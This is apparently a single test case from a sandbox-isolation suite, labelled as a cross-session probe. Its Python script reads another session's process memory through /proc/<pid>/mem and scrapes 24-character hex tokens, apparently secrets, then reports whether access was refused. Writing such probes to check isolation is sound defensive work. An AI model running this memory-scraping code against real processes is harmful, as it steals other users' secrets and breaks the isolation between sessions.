# id: xs04-bystander-proc-mem
# category: cross-session
# effect: read the bystander session's memory through /proc/<pid>/mem
# touches_os: yes
# destructive: no
# fast: no
import errno
def report(e):
    print("ESCAPE-RESULT: errno=" + errno.errorcode.get(e.errno, str(e.errno)))
import re
try:
    maps = open("/proc/{BYSTANDER_PID}/maps").read().splitlines()
    mem = open("/proc/{BYSTANDER_PID}/mem", "rb")
    found = set()
    for line in maps:
        a, perm = line.split()[:2]
        if "r" not in perm or "w" not in perm:
            continue
        lo, hi = (int(x, 16) for x in a.split("-"))
        if hi - lo > 256 << 20:
            continue
        try:
            mem.seek(lo)
            chunk = mem.read(hi - lo)
        except OSError:
            continue
        found.update(re.findall(rb"(?<![0-9a-f])[0-9a-f]{24}(?![0-9a-f])", chunk))
    print(sorted(found)[:1500])
except OSError as e:
    report(e)
